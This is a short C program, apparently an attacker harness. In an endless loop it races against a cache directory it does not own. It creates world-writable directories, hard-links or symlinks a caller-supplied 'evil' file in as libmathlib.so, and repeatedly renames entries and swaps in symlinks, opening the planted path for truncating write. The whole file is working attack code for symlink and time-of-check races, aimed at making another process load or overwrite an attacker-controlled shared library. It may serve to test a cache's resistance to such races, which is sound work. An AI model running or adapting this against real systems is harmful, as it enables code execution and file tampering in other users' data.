/* Plants, exchanges and removes files in a cache that is not its own, without end. Nothing is checked: most of it is refused. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

static void plant(const char *v1, const char *entry, const char *file, const char *evil) {
    mkdir(v1, 0777);
    mkdir(entry, 0777);
    chmod(v1, 0777);
    chmod(entry, 0777);
    if (link(evil, file) != 0) {
        symlink(evil, file);
    }
}

static void exchange(const char *file, const char *away, const char *evil) {
    rename(file, away);
    symlink(evil, file);
    int opened = open(file, O_WRONLY | O_TRUNC);
    if (opened >= 0) {
        close(opened);
    }
}

int main(int count, char **arguments) {
    char v1[4096], entry[4096], file[4096], away[4096];
    snprintf(v1, sizeof v1, "%s/v1", arguments[1]);
    snprintf(entry, sizeof entry, "%s/v1/%s", arguments[1], arguments[2]);
    snprintf(file, sizeof file, "%s/v1/%s/libmathlib.so", arguments[1], arguments[2]);
    snprintf(away, sizeof away, "%s/away", arguments[1]);
    umask(0);
    for (;;) {
        plant(v1, entry, file, arguments[3]);
        exchange(file, away, arguments[3]);
        exchange(entry, away, arguments[3]);
        exchange(v1, away, arguments[3]);
        unlink(file);
        unlink(entry);
        rmdir(entry);
        unlink(v1);
        rmdir(v1);
        unlink(away);
    }
}
